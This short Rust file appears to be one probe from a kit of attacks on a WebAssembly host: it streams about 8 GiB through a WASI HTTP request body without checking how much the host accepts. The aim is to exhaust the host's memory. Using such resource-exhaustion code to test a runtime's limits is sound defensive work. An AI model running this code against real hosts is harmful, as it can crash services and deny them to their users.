//! A body written without asking how much the host takes.

use attack_kit::Tried;
use attack_kit::http::Attempt;
use attack_kit::wasip2::http::outgoing_handler;
use attack_kit::wasip2::http::types::Method;

pub fn attack(target: &str) -> Tried {
    let (request, options) = Attempt { method: Method::Post, ..Attempt::get(target) }.request()?;
    let outgoing = request.body().expect("a body");
    let _future = outgoing_handler::handle(request, Some(options)).map_err(attack_kit::name)?;
    let stream = outgoing.write().expect("a stream");
    let piece = vec![b'x'; 8 << 20];
    for _ in 0..1000 {
        stream.write(&piece).map_err(attack_kit::name)?;
    }
    Ok("8 GiB are waiting in the host".to_owned())
}
